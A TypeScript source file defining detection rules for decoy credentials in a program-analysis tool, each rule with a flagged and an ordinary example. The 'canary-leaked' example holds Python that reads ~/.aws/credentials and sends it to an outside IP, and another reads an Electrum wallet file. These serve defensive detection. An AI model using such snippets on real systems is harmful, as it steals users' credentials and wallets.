import type { Rule } from '../rule.ts';
import { LOOKED_UP_NETRC, OWN_CREDENTIALS } from './secrets.ts';

/** What became of the decoys that are laid out in a run. */
export const canaryRules = {
  'canary-leaked': {
    severity: 'critical',
    title: 'A decoy credential left the program',
    capability: 'network.send',
    why: 'It was drawn for this run alone: who has it has read it here.',
    cwe: ['CWE-200', 'CWE-522'],
    attack: ['T1552', 'T1041'],
    message: 'The decoy {target}.',
    remedy: 'Do not run it where real credentials are. Remove the reading and the sending.',
    examples: {
      found: {
        language: 'python',
        code: "import os, socket\n\nkey = open(os.path.expanduser('~/.aws/credentials')).read()\nsocket.socket().sendto(key.encode(), ('93.184.216.34', 9))",
        run: {
          leaks: [{ canary: 'aws-credentials', channel: 'network', place: '93.184.216.34:9', encoding: [], line: 4 }],
        },
      },
      ordinary: {
        language: 'python',
        code: "import os, urllib.request\n\nurllib.request.urlopen('https://api.github.com/user?access_token=' + os.environ['GITHUB_TOKEN'])",
        run: {
          leaks: [
            {
              canary: '$GITHUB_TOKEN',
              channel: 'url',
              place: 'https://api.github.com/user',
              encoding: [],
              line: 3,
              meant: true,
            },
          ],
        },
      },
    },
    when: { examined: 'canary-leaked' },
  },
  'canary-printed': {
    severity: 'medium',
    title: 'A decoy credential was printed',
    capability: 'secret.read',
    why: 'What is printed is kept in logs, and shown to whoever asks for them.',
    cwe: ['CWE-532'],
    message: 'The decoy {target}.',
    remedy: 'Print no secrets: print that they are there.',
    examples: {
      found: {
        language: 'python',
        code: "import os\n\nprint(os.environ['GITHUB_TOKEN'])",
        run: { leaks: [{ canary: '$GITHUB_TOKEN', channel: 'stdout', place: 'stdout', encoding: [], line: 3 }] },
      },
      ordinary: {
        language: 'python',
        code: "import os\n\nprint('GITHUB_TOKEN' in os.environ)",
        run: { leaks: [] },
      },
    },
    when: { examined: 'canary-printed' },
  },
  'canary-read': {
    severity: 'high',
    title: 'Reads a decoy credential',
    capability: 'secret.read',
    why: 'Nobody told the program that it is there: it went looking.',
    cwe: ['CWE-522'],
    attack: ['T1552.001', 'T1083'],
    message: '{callee} {target}: credentials that were laid out to be found.',
    remedy: 'Read only the files that the program is given.',
    examples: {
      found: {
        language: 'python',
        code: "import os\n\nopen(os.path.join(os.environ['HOME'], '.electrum/wallets/default_wallet')).read()",
        run: {
          events: [
            {
              capability: 'secret.read',
              operation: 'openat',
              target: '/home/user/.electrum/wallets/default_wallet',
              detail: { canary: 'electrum-wallet' },
              line: 3,
            },
          ],
        },
      },
      ordinary: {
        language: 'python',
        code: "import requests\n\nrequests.get('https://api.example.com/')",
        run: {
          events: [
            {
              capability: 'secret.read',
              operation: 'openat',
              target: '/home/user/.netrc',
              detail: { canary: 'netrc' },
              line: 3,
            },
          ],
        },
      },
    },
    when: {
      any: [
        { capability: ['file.read', 'secret.read'], argument: /^canary=/, except: [LOOKED_UP_NETRC, OWN_CREDENTIALS] },
      ],
    },
  },
  'canary-variable-read': {
    severity: 'low',
    title: 'Reads a variable that holds a credential',
    capability: 'environment.read',
    why: 'That is what the variable is for, and the first half of every theft of it.',
    cwe: ['CWE-526'],
    message: '{callee} {target}: a credential.',
    remedy: 'Nothing, where the program is meant to use it.',
    examples: {
      found: {
        language: 'python',
        code: "import os\n\nclient = os.environ.get('OPENAI_API_KEY')",
        run: {
          events: [
            {
              capability: 'environment.read',
              operation: 'os.environ',
              target: 'OPENAI_API_KEY',
              observer: 'interpreter',
              detail: { canary: '$OPENAI_API_KEY' },
              line: 3,
            },
          ],
        },
      },
      ordinary: {
        language: 'python',
        code: "import os\n\nhome = os.environ.get('HOME')",
        run: {
          events: [
            {
              capability: 'environment.read',
              operation: 'os.environ',
              target: 'HOME',
              observer: 'interpreter',
              line: 3,
            },
          ],
        },
      },
    },
    when: { any: [{ capability: ['environment.read'], argument: /^canary=/ }] },
  },
} as const satisfies Record<string, Rule>;
